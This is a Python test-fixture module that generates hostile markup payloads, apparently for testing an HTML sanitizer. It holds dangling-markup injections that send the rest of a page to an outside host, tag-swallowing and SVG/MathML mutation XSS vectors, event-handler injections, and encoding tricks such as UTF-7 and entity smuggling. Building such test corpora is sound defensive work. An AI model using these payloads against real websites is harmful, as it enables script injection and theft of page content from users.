"""Markup that swallows what follows, is read otherwise inside SVG and MathML, or in another encoding."""

from collections.abc import Iterator
from itertools import product

from tests.hostile.payloads.markup import CALL, ELSEWHERE

_LEFT_OPEN = (
    "<img src={0}{there}/?",
    "<a href={0}{there}/?",
    "<link rel=prefetch href={0}{there}/?",
    "<link rel=stylesheet href={0}{there}/?",
    "<meta http-equiv=refresh content={0}0;url={there}/?",
    "<base href={0}{there}/?",
    "<base target={0}",
    "<form action={0}{there}/?",
    "<button formaction={0}{there}/?",
    "<input type=image src={0}{there}/?",
    "<iframe src={0}{there}/?",
    "<iframe name={0}",
    "<video poster={0}{there}/?",
    "<object data={0}{there}/?",
    "<embed src={0}{there}/?",
    "<svg><image href={0}{there}/?",
    "<table background={0}{there}/?",
    "<script src={0}{there}/?",
    "<style>@import {0}{there}/?",
    "<p title={0}",
)
_QUOTES = ("'", '"', "`", "")
_SWALLOWERS = (
    "iframe",
    "noembed",
    "noframes",
    "noscript",
    "plaintext",
    "script",
    "style",
    "template",
    "textarea",
    "title",
    "xmp",
    "listing",
    "option",
    "select",
    "svg",
    "math",
    "button",
    "dialog",
    "details",
    "frameset",
    "colgroup",
    "caption",
)
_SWALLOWED = (
    '<{0}><p title="</{0}><img src=x onerror={call}>">',
    "<{0}><!--</{0}><img src=x onerror={call}>-->",
    "</{0}><img src=x onerror={call}>",
    "<{0}><style></{0}><img src=x onerror={call}></style>",
    "<{0}>",
)
_FOREIGN = (
    "<svg><script href=data:text/javascript,{call} /></svg>",
    "<svg><script xlink:href=data:text/javascript,{call} /></svg>",
    "<svg><a xlink:href=javascript:{call}><text y=20>x</text></a></svg>",
    "<svg><a href=javascript:{call}><rect width=99 height=99 /></a></svg>",
    "<svg><discard onbegin={call} />",
    "<svg><set attributeName=onmouseover to={call} />",
    "<svg><animate attributeName=href from=javascript:{call} to=x />",
    "<svg><image xlink:href={there}/a.png />",
    "<svg><filter><feImage xlink:href={there}/a.png /></filter></svg>",
    "<svg><pattern href={there}/a.svg#x /></svg>",
    '<svg><style>{{}}@im&#112;ort "{there}/a.css"</style></svg>',
    "<svg><title><style><img src=x onerror={call}></style></title></svg>",
    "<svg></br><style><a title='</style><img src=x onerror={call}>'>",
    "<svg><foreignobject><math><mi><style><img src onerror={call}></style></mi></math></foreignobject></svg>",
    "<math><maction actiontype='statusline#http://x' xlink:href=javascript:{call}>x</maction></math>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img onerror={call}>'>",
    "<math><mi></mi><mglyph><style><img src=x onerror={call}></style></mglyph></math>",
    "<math><annotation-xml encoding=application/xhtml+xml><p title='</math><img src=x onerror={call}>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img src onerror={call}>'>",
    "<select><template><style><!--</template><a rel='--></style></select><img src=x onerror={call}>'>",
    "<table><tr><td><select><svg><style><img src=x onerror={call}></style></svg></select>",
    "<x-a is=script>{call}</x-a>",
    "<a is=x-a onfocus={call} autofocus href=#>x</a>",
    "<svg:script xmlns:svg='http://www.w3.org/2000/svg'>{call}</svg:script>",
    "<html xmlns:x='http://www.w3.org/1999/xhtml'><x:script>{call}</x:script>",
    "<?xml-stylesheet type='text/xsl' href='data:,<x/>'?>",
    "<script language=vbscript>{call}</script>",
    "<object type=text/x-scriptlet data={there}/a></object>",
    "<object><param name=src value=javascript:{call}></object>",
    "<img src=`x` onerror=`{call}`>",
    "<img/src/onerror={call}>",
    "<img\x0csrc=x\x0conerror={call}>",
    "<a\u00a0onclick={call}>x</a>",
    "<img src=x onerror\u3000={call}>",
    "<\u0131mg src=x onerror={call}>",
    "<\u017fcript>{call}</\u017fcript>",
    "<img title=\u2028 onerror={call} src=x>",
    '<p lang="\'" dir="><img src=x onerror={call}>">',
    "<time datetime='\"><img src=x onerror={call}>'>x</time>",
    "<ol start='\"><img src=x onerror={call}>'>",
    "<th scope='\"onclick={call}'>",
)
_EVENTS = """
    bounce cancel close command contextlost contextrestored devicemotion deviceorientation durationchange
    emptied encrypted ended finish focusout fullscreenerror gesturestart languagechange loadeddata
    loadedmetadata loadstart lostpointercapture move overscroll pagereveal pageswap play playing
    pointercancel pointerleave pointermove pointerout pointerup ratechange readystatechange
    rejectionhandled repeat scrollsnapchange scrollsnapchanging securitypolicyviolation seeking
    selectionchange show slotchange stalled suspend touchcancel touchend touchmove transitioncancel
    volumechange webkitanimationiteration webkitfullscreenchange webkitmouseforcedown
    webkitplaybacktargetavailabilitychanged webkittransitionend webkitwillrevealbottom
"""
_ENCODED = (
    "\x1b$B<img title=\x1b(B onerror={call} src=x>",
    "\x1b(J\\<img src=x onerror={call}>",
    "+ADwAaQBtAGcAIABzAHIAYwA9AHgAIABvAG4AZQByAHIAbwByAD0AcAAoACkAPg-",
    "+/v8-+ADw-img src=x onerror={call}+AD4-",
    "\u00bcimg src=x onerror={call}\u00be",
    "\u203aimg src=x onerror={call}\u2039",
    "\ufe64script\ufe65{call}\ufe64/script\ufe65",
    "\u02ba onclick={call} \u02ba",
    "\uff02 onclick={call} \uff02",
    "\u2039script\u203a{call}",
    "%253Cimg%2520src%253Dx%2520onerror%253D{call}%253E",
    "%u003Cimg src=x onerror={call}%u003E",
    "&lt;img src=x onerror={call}&gt",
    "&#x3c;img src=x onerror={call}&#x3e;",
    "&#0000060img src=x onerror={call}&#0000062",
    "&LT;img src=x onerror={call}&GT;",
    "&nvlt;img src=x onerror={call}&nvgt;",
    "&bne;x&NotEqualTilde;",
    "&quot; onclick={call} &quot;",
    "&#34; onclick={call} &#34;",
    "&apos; onclick={call} &apos;",
    "&amp;quot; onclick={call} &amp;quot;",
    "&#39;&#41;&#59;{call}&#47;&#47;",
    "&#x110000;&#xD83D;&#xDE00;&#x80;&#x0;&#xFFFE;",
)


def swallowed() -> Iterator[str]:
    """Attributes and elements left open, so that what stands behind them on the page becomes theirs."""
    for form, sign in product(_LEFT_OPEN, _QUOTES):
        yield form.format(sign, there=ELSEWHERE)
        yield f'">{form.format(sign, there=ELSEWHERE)}'
    for name, form in product(_SWALLOWERS, _SWALLOWED):
        yield form.format(name, call=CALL)


def foreign() -> Iterator[str]:
    """Elements of SVG and MathML, names that only look like names, attributes that we write ourselves."""
    yield from (form.format(call=CALL, there=ELSEWHERE) for form in _FOREIGN)
    yield from (f'" on{event}={CALL} x="' for event in _EVENTS.split())
    yield from (f"<p on{event}={CALL}>words" for event in _EVENTS.split())


def encoded() -> Iterator[str]:
    """Signs that become others when they are decoded once more, or in another encoding."""
    yield from (form.format(call=CALL) for form in _ENCODED)
